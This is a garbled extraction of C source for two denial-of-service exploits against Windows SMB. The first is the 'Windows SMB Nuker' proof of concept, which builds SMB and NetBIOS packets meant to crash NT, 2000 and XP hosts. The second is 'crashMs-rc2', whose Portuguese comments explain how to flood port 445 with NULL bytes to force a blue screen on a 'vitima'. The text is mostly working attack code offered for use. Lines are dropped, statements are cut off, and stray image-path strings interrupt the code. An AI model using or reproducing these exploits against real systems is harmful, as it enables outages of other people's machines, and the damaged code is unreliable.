        p - buffer - 4 - sizeof (smb_header) -sizeof (session_setup_andx_request);
      memcpy (buffer + 4 + sizeof (smb_header), &ssar,
        sizeof (session_setup_andx_request));
      /* Another byte count */
      *(uint16_t *) (buffer + 2) =
        bswap16 ((uint16_t)
        (sizeof (session_setup_andx_request) + sizeof (smb_header) +
      write (fd, buffer,
        sizeof (session_setup_andx_request) + sizeof (smb_header) + 4 +
    request_tree_connect_andx (unsigned char *buffer, int fd,
                               const char *netbios_name)
      smb_header hdr;
      tree_connect_andx_request tcar;
      uint16_t proc_id, user_id;
      unsigned char *p, *q;
      proc_id = (uint16_t) rand ();
      user_id = ((smb_header *) (buffer + 4))->user_id;
      build_smb_header (&hdr, SMB_TREE_CONNECT_ANDX, 0x18, 0x2001, 0, proc_id,
        user_id, 0);
      buffer[0] = SESSION_MESSAGE;
      buffer[1] = 0x0;
      memcpy (buffer + 4, &hdr, sizeof (smb_header));
      memset (&tcar, 0, sizeof (tree_connect_andx_request));
      tcar.wct= 4;
      tcar.andx_command = 0xff; /* No further commands */
      tcar.pwlen = 1;
      p = buffer + 4 + sizeof (smb_header) + sizeof
      /* Password */
      p = push_string (p, "");
      /* Path */
      q = malloc (8 + strlen (netbios_name));
      sprintf (q, "\\\\%s\\IPC$", netbios_name);
      p = push_string (p, q);
      free (q);
      /* Service */
      p = push_string (p, "IPC");
      tcar.bcc =
        p - buffer - 4 - sizeof (smb_header) - sizeof
      memcpy (buffer + 4 + sizeof (smb_header), &tcar,
        sizeof (tree_connect_andx_request));/* Another byte count */
      *(uint16_t *) (buffer + 2) =bswap16 ((uint16_t)
        (sizeof (tree_connect_andx_request) + sizeof (smb_header) +
      write (fd, buffer,
        sizeof (tree_connect_andx_request) + sizeof (smb_header) + 4 +
    request_transaction (unsigned char *buffer, int fd)
      smb_header hdr;
      transaction_request transaction;
      parameters params;
      uint16_t proc_id, tree_id, user_id;
      unsigned char *p;
      proc_id = (uint16_t) rand ();
      tree_id = ((smb_header *) (buffer + 4))->tree_id;
      user_id = ((smb_header *) (buffer + 4))->user_id;
      build_smb_header (&hdr, SMB_COM_TRANSACTION, 0, 0, tree_id, proc_id,
        user_id, 0);
      buffer[0] = SESSION_MESSAGE;
      buffer[1] =0x0;
      memcpy (buffer + 4, &hdr, sizeof (smb_header));
      memset (&transaction, 0, sizeof (transaction_request));
      transaction.wct = 14;
      transaction.total_param_cnt = 19; /* Total lenght of parameters */
      transaction.param_cnt = 19; /* Lenght of parameter */
      p = buffer + 4 + sizeof (smb_header) + sizeof(transaction_request);
      /* Transaction name */
      p = push_string (p, "\\PIPE\\LANMAN");
      transaction.param_offset = p - buffer - 4;
      params.function_code = (uint16_t) 0x68; /* NetServerEnum2 */
      strcpy (params.param_descriptor, "WrLeh"); /* RAP_NetGroupEnum_REQ */
      strcpy (params.return_descriptor, "B13BWz"); /* RAP_SHARE_INFO_L1 */
      params.detail_level = 1;
      params.recv_buffer_len = 50000;
      memcpy (p, ¶ms, sizeof (parameters));
      p += transaction.param_cnt;
      transaction.data_offset = p - buffer - 4;
      transaction.bcc =
        p - buffer - 4 - sizeof (smb_header) - sizeof (transaction_request);
      memcpy (buffer + 4 + sizeof (smb_header), &transaction,
        sizeof (transaction_request));
      /* Another byte count */
      *(uint16_t *) (buffer + 2) =
        bswap16 ((uint16_t)
        (sizeof (transaction_request) + sizeof (smb_header) +
      write (fd, buffer,
        sizeof (transaction_request) + sizeof (smb_header) + 4 +
    typedef struct
      uint16_t transaction_id;
      uint16_t flags;
      uint16_t questions;
      uint16_t answerRRs;
      uint16_t authorityRRs;
      uint16_t additionalRRs;
      unsigned char query[32];
      uint16_t name;
      uint16_ttype;
      uint16_t class;
    __attribute__ ((packed)) nbt_name_query;
    typedef struct
      nbt_name_query answer;
      uint32_t ttl;
      uint16_t datalen;
      uint8_t names;
    __attribute__ ((packed)) nbt_name_query_answer;
    char *
    list_netbios_names (unsigned char *buffer, size_t size, const char *rhost,
                        unsigned short port, unsigned int timeout)
      nbt_name_query query;
      struct sockaddr_in dest;
      struct hostent *host;
      int fd, i;
      fd_set rfds;
      struct timeval tv;printf ("Trying to list netbios names on %s\n", rhost);
      host = gethostbyname (rhost);
      if (host == NULL)
        fprintf (stderr, "Could not resolve host: %s\n", rhost);
        return NULL;
      memset (&dest, 0, sizeof (struct sockaddr_in));
      dest.sin_family = AF_INET;
      dest.sin_addr.s_addr = *(long *) (host->h_addr);
      dest.sin_port = htons (port);
      if ((fd = socket (AF_INET, SOCK_DGRAM, 0)) < 0)
        fprintf (stderr, "Could not setup the UDP socket: %s\n",
          strerror (errno));
        return NULL;
      memset (&query, 0, sizeof (nbt_name_query));
      query.transaction_id = (uint16_t) bswap16 (0x1e); //rand();
      query.flags = bswap16 (0x0010);
      query.questions = bswap16 (1);
      name_mangle ("*", query.query, 0);
      query.type = bswap16 (0x21);
      query.class = bswap16 (0x01);
      if (sendto
        (fd, &query, sizeof (nbt_name_query), 0, (struct sockaddr *) &dest,
        sizeof (struct sockaddr_in)) != sizeof (nbt_name_query))
        fprintf (stderr, "Could not send UDP packet: %s\n", strerror (errno));
        return NULL;
      /* Now, wait for an answer -- add a timeout to 10 seconds */
      FD_ZERO (&rfds);
      FD_SET (fd, &rfds);
      tv.tv_sec = timeout;
      tv.tv_usec = 0;
      if (!select (fd + 1, &rfds, NULL, NULL, &tv))
        fprintf (stderr,
          "The udp read has reached the timeout - try setting the netbiosname
    manually - exiting...\n");
        return NULL;
      recvfrom (fd, buffer, size, 0, NULL, NULL);
      for (i = 0; i < ((nbt_name_query_answer *) buffer)->names; i++)
        if ((uint8_t) * (buffer + sizeof (nbt_name_query_answer) + 18 * i +
    15) ==
          return buffer + sizeof (nbt_name_query_answer) + 18 * i;
        printf ("No netbios name available for use - you probably won't be
    able to crash this host\n");
        printf ("However, you can try setting one manually\n");
        return NULL;
    char *extract_name (const char *name)
      int i;
      char *p = malloc(14);
      for (i = 0; i < 14; i++)
        if (name[i] == ' ')
          p[i] = name[i];
        p[i] = '\0';
        return p;
    print_banner (void)
      printf ("Windows SMB Nuker (DoS) - Proof of concept - CVE
      printf ("Copyright 2002 - Frederic Deletang ([email protected]) -
    is_smb_header (const unsigned char *buffer, int len)
      if (len < sizeof (smb_header))
        return 0;
      if (buffer[0] == 0xff && buffer[1] == 'S' && buffer[2] == 'M'
        && buffer[3] == 'B')
        return 1;
        return 0;
    main (int argc, char **argv)
      int fd, r, i, c;
      unsigned char buffer[1024 * 4]; /* Enough. */
      char *hostname = NULL, *name = NULL;
      unsigned int showhelp = 0;
      unsigned int packets = 10;
      unsigned int state;
      unsigned int udp_timeout = 10;
      unsigned int tcp_timeout = 10;
      unsigned short netbios_ssn_port = 139;
      unsigned short netbios_ns_port = 137;fd_set rfds;
      struct timeval tv;
      srand (time (NULL));
      print_banner ();
      while ((c = getopt (argc, argv, "N:n:p:P:t:T:h")) != -1)
        switch (c)
        case 'N':
          name = optarg;
        case 'n':
          packets = atoi (optarg);case 'p':
          netbios_ns_port = atoi (optarg);
        case 'P':
          netbios_ssn_port = atoi (optarg);
        case 't':
          udp_timeout = atoi (optarg);
        case 'T':
          tcp_timeout = atoi (optarg);
        case 'h':
          showhelp = 1;
      if (optind < argc)
        hostname = argv[optind++];
      if (showhelp || hostname == NULL)
        printf ("Usage: %s [options] hostname/ip...\n", argv[0]);
          (" -N [netbios-name] Netbios Name (default: ask the remote
          (" -n [packets] Number of crafted packets to send (default: %d)\n",
          (" -p [netbios-ns port] UDP Port to query (default: %d)\n",
          (" -P [netbios-ssn port] TCP Port to query (default: %d)\n",
          (" -t [udp-timeout] Timeout to wait for receive on UDP ports(default: %d)\n",
          (" -T [tcp-timeout] Timeout to wait for receive on TCP ports
    (default: %d\n",
        printf ("\n");
        printf ("Known vulnerable systems: \n");
        printf (" - Windows NT 4.0 Workstation/Server\n");
        printf (" - Windows 2000 Professional/Advanced Server\n");
        printf (" - Windows XP Professional/Home edition\n\n");
        exit (1);if (!name
        && (name =
        list_netbios_names (buffer, sizeof (buffer), hostname,
        netbios_ns_port, udp_timeout)) == NULL)
        exit (1);
        name = extract_name (name);
      printf ("Using netbios name: %s\n", name);
      printf ("Connecting to remote host (%s:%d)...\n", hostname,
      fd = tcp_connect (hostname, netbios_ssn_port);
      if (fd
     Update (06 January 2002)
    /* Code by ch0wn */
     *  O Soft Utiliza a falha do Microsoft-ds,
     * que quando recebe 10k de NULL trava, dando
     * blue screen. =)
     * Nao me responsabilizo por uso indevido.
     * ch0wn  <[email protected]>
     * iplogd <[email protected]>
     * >> 03/01/2003
     * msg = pt_BR
     * Esse prog foi feito com TCP,
     * caso queira que seja UDP , apenas modifique o
     * para SOCK_DGRAM.
     * msg = us_US
     * This soft (or exploit ? :)  )
     * was done with TCP, and if you wanna use UDP, just change* by SOCK_DGRAM.
     * Modo de utilização:
     * descompacte o arquivo
     * tar -xzvf crashMs-rc2.tar.gz
     * cd crashMs-rc2/
     * make all
     * Execute:
     * ./crashMs-rc2 <vitima> <porta> <numerovezes>
    #include <stdio.h>
    #include <string.h>
    #include <unistd.h>
    #include <sys/socket.h>
    #include <sys/types.h>
    #include <netdb.h>
    #include <netinet/in.h>
    #include <sys/signal.h>
    #include <stdlib.h>
    #define     VERSAO  "rc2"
    #define     PORTA   "445"
    int main(int argc, char *argv[], char *pacote, int porta, int vezes) {
       int sock, conexao, comeco = 1;
       struct sockaddr_in remoto;
       struct hostent *he;
    void autors() {
        printf("C0d3rz By:\n");
        printf("\tch0wn  <[email protected]>\n");
        printf("\tiplogd <[email protected]>\n");
    void usage(){
        printf("Error. Modo de usar: \n");
        printf(" $ %s <vitima> <porta> <numero vezes>\n\n", argv[0]);
        printf("Porta padrao do ms-ds : (%s)\n",PORTA);
    if(argc != 4) {
       he = gethostbyname(argv[1]);
       if(he < 0) {
